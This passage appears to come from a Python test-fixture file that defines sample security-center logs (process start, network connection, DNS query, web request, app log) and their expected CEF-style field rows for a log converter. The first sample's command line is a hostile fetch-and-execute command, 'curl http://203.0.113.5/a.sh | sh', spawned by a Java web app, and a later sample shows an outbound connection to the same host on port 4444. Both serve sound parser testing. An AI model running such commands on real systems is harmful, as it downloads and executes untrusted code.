            cmdline="bash -c 'curl http://203.0.113.5/a.sh | sh'",
            container_name="-",
            cwd="/var/www",
            host_ip="10.0.0.31",
            instance_id="i-bp1example",
            owner_id=ACCOUNT,
            parent_cmd_line="java -jar shop.jar",
            parent_proc_name="java",
            parent_proc_path="/usr/lib/jvm/bin/java",
            pid="7102",
            ppid="6274",
            proc_name="bash",
            proc_path="/usr/bin/bash",
            start_time="1793678400",
            uid="48",
            username="www",
            uuid=AGENT,
        ),
        product="Security Center",
        class_id="process-start",
        name="Process started",
        severity="2",
        rows=rows("""
            rt devTime 1793678400000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs4 [InstanceId] i-bp1example
            cs6 [AccountId] 1234567890123456
            src = 10.0.0.31
            suser usrName www
            suid = 48
            sproc = java
            spid = 6274
            dproc = bash
            dpid = 7102
            filePath = /usr/bin/bash
            msg = bash -c 'curl http://203.0.113.5/a.sh | sh'
            cs1 [CommandChain] [{"9883":"bash -c kill -0 -- -6274"}]
            cs2 [ParentCommand] java -jar shop.jar
            cs3 [Directory] /var/www
            flexString2 [ParentPath] /usr/lib/jvm/bin/java
        """),
    ),
    Sample(
        id="a host connects to another one",
        mapping="security-center-network",
        log=log(
            "aegis-log-network",
            cmd_chain="-",
            connection_type="tcp",
            dst_ip="203.0.113.5",
            dst_port="4444",
            host_ip="10.0.0.31",
            instance_id="i-bp1example",
            net_connect_dir="out",
            owner_id=ACCOUNT,
            pid="7102",
            proc_name="bash",
            proc_path="/usr/bin/bash",
            src_ip="10.0.0.31",
            src_port="50514",
            start_time="1793678400",
            status="5",
            type="connect",
            username="www",
            uuid=AGENT,
        ),
        product="Security Center",
        class_id="aegis-log-network",
        name="Network connection",
        severity="2",
        rows=rows("""
            rt devTime 1793678400000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs4 [InstanceId] i-bp1example
            cs6 [AccountId] 1234567890123456
            act = connect
            src = 10.0.0.31
            spt srcPort 50514
            dst = 203.0.113.5
            dpt dstPort 4444
            dvc = 10.0.0.31
            proto = tcp
            deviceDirection = 1
            deviceProcessName = bash
            filePath = /usr/bin/bash
            suser usrName www
            cs1 [State] established
        """),
    ),
    Sample(
        id="a host asks for a name that is not there",
        mapping="security-center-dns",
        log=log(
            "sas-log-dns",
            additional="-",
            answer="ns1.example.net|hostmaster.example.net",
            answer_num="2",
            dst_ip="198.51.100.53",
            dst_port="53",
            net_connect_dir="out",
            owner_id=ACCOUNT,
            qid="38613",
            query_datetime="1793678400250",
            query_name="x7f3.example.net",
            query_type="1",
            rcode="3",
            region="3",
            src_ip="10.0.0.31",
            src_port="40991",
        ),
        product="Security Center",
        class_id="dns-query",
        name="DNS query",
        severity="2",
        rows=rows("""
            rt devTime 1793678400250
            cs6 [AccountId] 1234567890123456
            outcome = failure
            reason = NXDOMAIN
            src = 10.0.0.31
            spt srcPort 40991
            dst = 198.51.100.53
            dpt dstPort 53
            destinationDnsDomain = x7f3.example.net
            deviceDirection = 1
            externalId = 38613
            cs1 [Answer] ns1.example.net|hostmaster.example.net
            cs2 [QueryType] A
        """),
    ),
    Sample(
        id="a client calls a web server",
        mapping="security-center-http",
        log=log(
            "sas-log-http",
            content_type="application/json",
            dst_ip="10.0.0.31",
            dst_port="8080",
            host="shop.example.com:8080",
            http_user_agent="python-requests/2.32",
            http_x_forward_for="203.0.113.150",
            jump_location="-",
            owner_id=ACCOUNT,
            request_datetime="2026-11-03 12:00:00",
            request_method="POST",
            request_uri="/login?next=/",
            response_content_length="35",
            response_content_type="text/html",
            src_ip="203.0.113.150",
            src_port="33100",
            start_time="1793678400",
            status="401",
        ),
        product="Security Center",
        class_id="http-request",
        name="Web request",
        severity="5",
        rows=rows("""
            rt devTime 1793678400000
            cs6 [AccountId] 1234567890123456
            outcome = failure
            src = 203.0.113.150
            spt srcPort 33100
            dst = 10.0.0.31
            dpt dstPort 8080
            dhost = shop.example.com
            request url http://shop.example.com:8080/login?next=/
            requestMethod = POST
            requestClientApplication = python-requests/2.32
            out dstBytes 35
            cs1 [XForwardedFor] 203.0.113.150
            cn1 [Status] 401
        """),
    ),
    Sample(
        id="a log of an application of one's own",
        mapping="generic",
        log=log(
            "shop-app",
            **{"__tag__:__hostname__": "web-1", "__tag__:__path__": "/var/log/shop.log"},
            level="ERROR",
            user_agent="curl/8.5.0",
            src="checkout",
            trace="-",
            message="支付失败 a=b|c",
        )
        | {"__source__": "10.0.0.17"},
        product="Log Service",
        class_id="shop-app",
        name="shop-app",
        severity="3",
        rows=rows("""
            rt devTime 1793678405000
            dvc = 10.0.0.17
            tagHostname = web-1
            tagPath = /var/log/shop.log
            level = ERROR
            userAgent = curl/8.5.0
            slsSrc = checkout
            slsMessage = 支付失败 a=b|c
        """),
    ),
    *TRAFFIC_SAMPLES,
    *GATEWAY_SAMPLES,
    *DATA_SAMPLES,
    *PROTECTION_SAMPLES,
    *OPERATION_SAMPLES,
)
"""At least one for each mapping."""
